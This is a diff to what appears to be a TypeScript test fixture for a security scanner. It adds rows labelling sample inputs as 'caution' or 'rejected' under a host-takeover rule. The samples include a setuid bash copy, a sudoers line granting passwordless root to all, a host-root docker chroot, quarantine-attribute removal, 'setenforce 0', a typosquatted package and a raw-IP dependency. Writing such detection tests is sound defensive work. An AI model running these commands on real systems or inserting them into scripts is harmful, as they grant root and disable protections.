@@ -1,5 +1,6 @@
 import { document, FENCE, PAYLOAD, lines, type Row } from "./row";
 
+const TAKEOVER = "suspicious.host_takeover";
 const INSTALL = "suspicious.install_untrusted_source";
 
 /** What is fetched when something is installed or set up. */
@@ -58,7 +59,7 @@ export const INSTALLS: readonly Row[] = [
   [
     "a container with the whole disk",
     "caution",
-    "suspicious.host_takeover",
+    TAKEOVER,
     document(`${FENCE}bash\ndocker run --rm -v /:/host alpine chroot /host sh\n${FENCE}`),
   ],
   ["a misspelt package of Python", "caution", INSTALL, { "requirements.txt": "reqeusts==2.31.0\n" }],
@@ -80,4 +81,23 @@ export const INSTALLS: readonly Row[] = [
     INSTALL,
     { "package.json": JSON.stringify({ dependencies: { helper: "http://45.77.10.20/helper.tgz" } }) },
   ],
+  [
+    "a shell that runs as root for everybody",
+    "rejected",
+    TAKEOVER,
+    { "run.sh": lines("cp /bin/bash /tmp/bash", "chmod u+s /tmp/bash") },
+  ],
+  [
+    "everybody may become root",
+    "rejected",
+    TAKEOVER,
+    { "run.sh": lines("echo 'x ALL=(ALL) NOPASSWD: ALL' | sudo tee -a /etc/sudoers") },
+  ],
+  [
+    "the mark of a download taken away",
+    "caution",
+    TAKEOVER,
+    document(`${FENCE}bash\nxattr -d com.apple.quarantine ./tool\n${FENCE}`),
+  ],
+  ["a guard switched off", "caution", TAKEOVER, { "run.sh": lines("sudo setenforce 0") }],
 ];
